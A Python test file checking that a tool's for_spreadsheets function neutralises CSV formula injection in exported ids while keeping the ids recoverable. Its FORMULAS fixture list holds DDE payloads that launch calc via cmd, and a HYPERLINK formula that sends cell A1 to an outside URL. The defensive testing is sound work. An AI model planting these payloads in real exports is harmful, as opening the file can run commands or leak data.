"""scores.csv in a spreadsheet: no id becomes a formula, numbers stay numbers, and every id can be restored."""

import csv

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from recoslip.cli import app
from recoslip.results import for_spreadsheets

FORMULAS = [
    "=1+1",
    "+1-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "=",
    "-",
    "+",
    "@",
    "－1+1",
    "＝1+1",
]
FORMULAS += ['=HYPERLINK("http://example.org?"&A1)', "=cmd|'/C calc'!A0", "'=1+1", "''", "-1e5+A1", "--1", "-A1"]
NO_FORMULAS = ["-7", "+7", "-0.5", "007", "12.5", "a=1", " =1", "naïve", "x'", "", "ключ"]


def escaped(ids):
    return for_spreadsheets(pl.DataFrame({"id": ids}, schema={"id": pl.String}))["id"]


def test_formulas_get_an_apostrophe_and_other_texts_stay():
    assert escaped(FORMULAS).to_list() == [f"'{text}" for text in FORMULAS]
    assert escaped(NO_FORMULAS).to_list() == NO_FORMULAS


@given(st.lists(st.text() | st.sampled_from([*FORMULAS, *NO_FORMULAS])))
@settings(deadline=None, database=None, derandomize=True, max_examples=300)
def test_removing_one_apostrophe_restores_every_id(ids):
    assert escaped(ids).str.strip_prefix("'").to_list() == ids
    assert not [text for text in escaped(ids) if text[:1] in ("=", "@", "\t", "\r", "\n")]


def test_numbers_and_missing_values_are_left_alone():
    table = pl.DataFrame({"id": [-1, 2, None], "score": [-0.5, 1e-9, None], "name": ["=1", None, "b"]})
    assert for_spreadsheets(table).select("id", "score").equals(table.select("id", "score"))
    assert for_spreadsheets(table)["name"].to_list() == ["'=1", None, "b"]


@pytest.mark.parametrize("file_format", ["csv", "parquet"])
def test_ids_that_detect_writes_can_be_joined_with_the_nodes(tmp_path, file_format):
    ids = [*FORMULAS, *(text for text in NO_FORMULAS if text)]
    nodes = pl.DataFrame({"id": ids, "domain": [k % 2 for k in range(len(ids))], "v": range(len(ids))})
    nodes.write_parquet(tmp_path / "nodes.parquet")
    arguments = ["detect", "--nodes", tmp_path / "nodes.parquet", "--out", tmp_path / "out", "--method", "lp-pul"]
    result = CliRunner().invoke(app, [*map(str, arguments), "--format", file_format, "--quiet", "--max-fpr", "0.5"])
    assert result.exit_code == 0, result.output
    if file_format == "parquet":
        assert set(pl.read_parquet(tmp_path / "out" / "scores.parquet")["id"]) == set(ids)  # unchanged
        return
    with (tmp_path / "out" / "scores.csv").open(encoding="utf-8", newline="") as file:
        cells = [row["id"] for row in csv.DictReader(file)]
    assert set(cells) == {f"'{text}" if text in FORMULAS else text for text in ids}
    scores = pl.read_csv(tmp_path / "out" / "scores.csv", schema_overrides={"id": pl.String})
    assert scores.with_columns(pl.col("id").str.strip_prefix("'")).join(nodes, on="id").height == len(ids)
